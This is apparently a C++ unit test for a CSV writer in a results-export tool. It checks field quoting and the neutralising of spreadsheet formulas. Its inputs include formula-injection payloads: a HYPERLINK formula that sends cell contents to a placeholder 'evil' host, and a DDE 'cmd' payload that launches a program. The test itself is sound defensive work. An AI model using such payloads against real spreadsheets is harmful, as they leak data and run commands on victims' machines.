#include "vysledky/CsvWriter.h"
#include "tests/support/Printers.h"

#include <gtest/gtest.h>

// A field holding a semicolon, a quote or a line end is quoted, its quotes doubled. What a
// spreadsheet would run as a formula gets a "'" in front; numbers, times and other text stay as
// they are.
TEST(CsvWriter, QuotesFieldsAndMakesFormulasInert) {
    const std::pair<const char16_t*, const char16_t*> cells[] = {
        {u"SDH \"Orel\"; Lhota", u"\"SDH \"\"Orel\"\"; Lhota\""},
        {u"\"", u"\"\"\"\""},
        {u"a;b", u"\"a;b\""},
        {u"a, b 'c'", u"a, b 'c'"},
        {u"=HYPERLINK(\"http://evil/?x=\"&A1,\"klik\")",
         u"\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"klik\"\")\""},
        {u"+cmd|' /C calc'!A0", u"'+cmd|' /C calc'!A0"},
        {u"-2+3", u"'-2+3"},
        {u"@SUM(1+1)", u"'@SUM(1+1)"},
        {u"\tx", u"'\tx"},
        {u"\rx", u"\"'\rx\""},
        {u"a\nb", u"\"a\nb\""},
        {u"-2", u"-2"},
        {u"+1,5", u"+1,5"},
        {u"12", u"12"},
        {u"00:00:17:250", u"00:00:17:250"},
        {u"A = 1", u"A = 1"},
        {u"", u""}};
    for (const auto& [text, field] : cells) {
        EXPECT_EQ(CsvWriter::field(QString::fromUtf16(text)), QString::fromUtf16(field));
    }
}
